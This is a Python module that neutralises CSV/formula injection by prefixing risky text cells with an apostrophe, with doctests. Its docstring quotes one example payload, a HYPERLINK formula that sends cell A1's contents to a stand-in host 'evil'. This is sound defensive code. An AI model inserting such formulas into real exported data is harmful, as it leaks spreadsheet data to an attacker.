"""CSV that a spreadsheet opens as data, never as formulas (CSV/formula injection).

A player's name like ``=HYPERLINK("http://evil/?"&A1,"ver")`` would run as a formula in Excel or
LibreOffice if written as is. Every text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return gets a leading ``'`` (the spreadsheets' "this is text" mark). Numbers stay
numbers: Python ints and floats, and text that is only a number (``-3``, ``2,50``), are left alone.

>>> safe_cell('=HYPERLINK("http://x")'), safe_cell("@SUM(A1)"), safe_cell("\\tx")
('\\'=HYPERLINK("http://x")', "'@SUM(A1)", "'\\tx")
>>> safe_cell(-3), safe_cell("-3"), safe_cell("-2,50"), safe_cell("-2+3"), safe_cell("ANA")
(-3, '-3', '-2,50', "'-2+3", 'ANA')
>>> import io
>>> buf = io.StringIO()
>>> csv_writer(buf, ";").writerow(["=1+1", 2])
>>> buf.getvalue()
"'=1+1;2\\n"
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will read it as data (see the module docstring)."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


class SafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, out: Any, delimiter: str) -> None:
        self._w = csv.writer(out, delimiter=delimiter, lineterminator="\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow([safe_cell(c) for c in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any, delimiter: str) -> SafeWriter:
    return SafeWriter(out, delimiter)
